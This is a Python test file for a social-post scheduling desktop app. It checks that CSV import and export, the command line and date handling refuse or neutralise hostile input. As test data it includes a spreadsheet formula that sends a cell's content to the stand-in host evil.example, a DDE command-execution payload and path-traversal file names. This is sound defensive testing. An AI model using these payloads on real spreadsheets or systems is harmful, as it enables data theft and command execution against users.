"""Hostile inputs through the core and the command line: spreadsheet formulas, broken encodings, pictures
named outside the CSV's folder, dates no post can have, a picture that would take a gigabyte to prepare.

Each one must be refused or neutralised with a sentence in the person's language, never accepted to fail
later, never a traceback. The GUI counterpart is tests/gui/test_hostile_widgets.py (rich text).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PIL import Image

from cm_desktop.core import calendar_io
from cm_desktop.core.calendar_query import PostView, TargetView
from cm_desktop.core.schedule import DateOutOfRange, to_utc, validate_schedule

ZONE = "Europe/Paris"
NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
HEADER = "date,time,networks,text,images\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-20 % sur les galettes",
    "@alice.bsky.social merci !",
    "\t=1+1",
    "\r=1+1",
    "'=déjà neutralisé",
]


def _view(post_id: int, text: str, when: datetime | None = None) -> PostView:
    when = when or datetime(2026, 4, 2, 7, 0, tzinfo=UTC)
    target = TargetView(1, "mastodon", None, "scheduled")
    return PostView(post_id, text, when, when.replace(tzinfo=None), "", (target,))


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _problems(preview: calendar_io.ImportPreview, lang: str = "en") -> list[str]:
    out = [p.message(lang) for p in preview.file_problems]  # type: ignore[arg-type]
    for row in preview.rows:
        out += [p.message(lang) for p in row.problems]  # type: ignore[arg-type]
    return out


# --- CSV: formulas ------------------------------------------------------------------------------------------


def test_exported_cells_never_start_a_formula_and_come_back_unchanged(tmp_path: Path) -> None:
    data = calendar_io.export_csv([_view(i, text) for i, text in enumerate(FORMULAS, 1)])
    rows = _cells(data)[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(calendar_io.FORMULA_START), repr(cell)
    assert rows[0][3].startswith("'=HYPERLINK")
    preview = calendar_io.read_csv(data, ZONE, NOW, tmp_path)
    assert preview.ok, _problems(preview)
    assert [r.text for r in preview.rows] == FORMULAS


def test_a_formula_in_an_imported_file_is_refused_with_a_reason(tmp_path: Path) -> None:
    text = HEADER + '2026-04-02,09:30,mastodon,"=HYPERLINK(""http://evil.example"")",\n'
    preview = calendar_io.read_csv(text.encode(), ZONE, NOW, tmp_path)
    assert not preview.ok
    assert any("spreadsheet formula" in m for m in _problems(preview))
    assert any("formule de tableur" in m for m in _problems(preview, "fr"))
    # Mentions, phone numbers and lists are posts, not formulas.
    fine = HEADER + "2026-04-02,09:30,mastodon,@alice merci,\n2026-04-02,10:30,mastodon,- 20 % aujourd'hui,\n"
    assert calendar_io.read_csv(fine.encode(), ZONE, NOW, tmp_path).ok


# --- CSV: encodings -----------------------------------------------------------------------------------------


def test_utf8_with_one_stray_windows_byte_stays_utf8_and_says_so(tmp_path: Path) -> None:
    good = HEADER + "2026-04-02,09:30,mastodon,Café crème à l’Étoile,\n"
    data = good.encode() + b"2026-04-02,10:30,mastodon,Cr\xe8me br\xfbl\xe9e,\n"  # three cp1252 bytes
    preview = calendar_io.read_csv(data, ZONE, NOW, tmp_path)
    assert preview.ok, _problems(preview)
    assert [r.text for r in preview.rows] == ["Café crème à l’Étoile", "Crème brûlée"]
    assert preview.encoding == "utf-8" and preview.repaired == 3
    assert "3 characters were not UTF-8" in preview.encoding_message("en")
    assert "Windows-1252" in preview.encoding_message("fr")


def test_a_windows_file_is_read_as_windows_1252_and_says_so(tmp_path: Path) -> None:
    data = (HEADER + "2026-04-02,09:30,mastodon,Café crème – 5 €,\n").encode("cp1252")
    preview = calendar_io.read_csv(data, ZONE, NOW, tmp_path)
    assert [r.text for r in preview.rows] == ["Café crème – 5 €"]
    assert preview.encoding_message("fr") == "Le fichier a été lu en Windows-1252 (Europe occidentale)."
    utf8 = calendar_io.read_csv((HEADER + "2026-04-02,09:30,mastodon,Café,\n").encode(), ZONE, NOW, tmp_path)
    assert utf8.encoding_message("en") == "The file was read as UTF-8."


# --- CSV: picture paths -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["{outside}/secret.png", "../secret.png", "pictures/../../secret.png", "~/secret.png", "link/secret.png"],
)
def test_pictures_outside_the_csv_folder_are_refused(tmp_path: Path, name: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    Image.new("RGB", (400, 300), "red").save(outside / "secret.png")
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "pictures").mkdir()
    (folder / "link").symlink_to(outside)  # a link inside that leads out
    (tmp_path / "secret.png").write_bytes((outside / "secret.png").read_bytes())
    cell = name.format(outside=outside)
    preview = calendar_io.read_csv(
        (HEADER + f"2026-04-02,09:30,mastodon,Galette,{cell}\n").encode(), ZONE, NOW, folder
    )
    assert not preview.ok
    (row,) = preview.rows
    assert row.images == ()
    assert any("same folder as the CSV file" in m for m in _problems(preview))


def test_pictures_in_the_csv_folder_and_below_are_taken(tmp_path: Path) -> None:
    (tmp_path / "pictures").mkdir()
    Image.new("RGB", (400, 300), "red").save(tmp_path / "pictures" / "galette.png")
    Image.new("RGB", (400, 300), "blue").save(tmp_path / "crêpe.png")
    cell = "pictures/galette.png | crêpe.png"
    preview = calendar_io.read_csv(
        (HEADER + f"2026-04-02,09:30,mastodon,Galette,{cell}\n").encode(), ZONE, NOW, tmp_path
    )
    assert preview.ok, _problems(preview)
    assert [p.name for p in preview.rows[0].images] == ["galette.png", "crêpe.png"]


# --- dates no post can have --------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "word"), [("0001-01-01", "passed"), ("9999-12-31", "too far")])
def test_year_1_and_year_9999_are_refused_at_import(tmp_path: Path, cell: str, word: str) -> None:
    preview = calendar_io.read_csv(
        (HEADER + f"{cell},23:59,mastodon,Galette,\n").encode(), ZONE, NOW, tmp_path
    )
    assert not preview.ok
    assert any(word in m for m in _problems(preview))


def test_dates_out_of_range_never_raise_and_the_ics_stays_valid() -> None:
    for local in (datetime(1, 1, 1), datetime(9999, 12, 31, 23, 59), datetime(2040, 1, 1)):
        (problem,) = validate_schedule(local, ZONE, NOW)
        assert problem.code in ("past", "too_far")
    with pytest.raises(DateOutOfRange) as caught:
        to_utc(datetime(9999, 12, 31, 23, 59), ZONE)
    assert "2200-12-31" in caught.value.message("en")
    # Posts stored before dates were checked: left out of the .ics, which stays valid.
    stored = [
        _view(1, "an 1", datetime(1, 1, 1, tzinfo=UTC)),
        _view(2, "an 9999", datetime(9999, 12, 31, 23, 59, tzinfo=UTC)),
        _view(3, "demain", NOW + timedelta(days=1)),
    ]
    events = calendar_io.read_ics(calendar_io.export_ics(stored, NOW))
    assert [e["DTSTART"] for e in events] == ["20260311T120000Z"]


# --- through the command line -------------------------------------------------------------------------------


def _cli(*args: str, home: Path, lang: str = "fr_FR.UTF-8") -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "CM_DESKTOP_HOME": str(home),
        "QT_QPA_PLATFORM": "offscreen",
        "LANG": lang,
        "LC_ALL": "",
    }
    return subprocess.run(
        [sys.executable, "-m", "cm_desktop", *args], capture_output=True, text=True, env=env, timeout=120
    )


@pytest.fixture
def account_home(data_home: Path) -> Path:
    from cm_desktop.core import models
    from cm_desktop.core.store import open_store
    from cm_desktop.platform.paths import default_paths

    paths = default_paths()
    store = open_store(paths.database, paths.backups)
    with store.session() as session:
        session.add(models.Account(network="bluesky", handle="alice.test", secret_ref="account:1:session"))
        session.commit()
    store.close()
    return data_home


@pytest.mark.parametrize("when", ["0001-01-01T09:00", "9999-12-31T23:59"])
def test_the_cli_refuses_impossible_dates_with_a_sentence(account_home: Path, when: str) -> None:
    result = _cli("post", "--to", "alice.test", "--text", "Galette", "--at", when, home=account_home)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and "date" in result.stderr
    status = _cli("status", "--json", home=account_home)
    assert json.loads(status.stdout) == []  # nothing queued


def test_the_cli_refuses_a_picture_too_big_to_prepare(account_home: Path, tmp_path: Path) -> None:
    picture = tmp_path / "plan.png"
    Image.new("RGB", (11000, 11000), (200, 120, 40)).save(picture)
    result = _cli("post", "--to", "alice.test", "--text", "Plan", "--image", str(picture), home=account_home)
    assert result.returncode == 2  # bad input: nothing queued
    assert "121 mégapixels" in result.stderr and "Traceback" not in result.stderr
    assert json.loads(_cli("status", "--json", home=account_home).stdout) == []


def test_the_cli_exports_what_a_damaged_store_holds_without_formulas(data_home: Path, tmp_path: Path) -> None:
    """The salvage CSV goes through the same neutralising export."""
    from cm_desktop.core import models
    from cm_desktop.core.salvage import read_damaged
    from cm_desktop.core.store import open_store

    db = tmp_path / "copy.sqlite3"
    store = open_store(db, tmp_path / "backups")
    with store.session() as session:
        post = models.Post(text="=cmd|' /C calc'!A0", scheduled_utc=NOW)
        session.add(post)
        session.flush()
        session.add(models.PostTarget(post_id=post.id or 0, network="facebook"))
        session.commit()
    store.close()
    rows = _cells(read_damaged(db, ZONE).csv())
    assert rows[1][3] == "'=cmd|' /C calc'!A0"
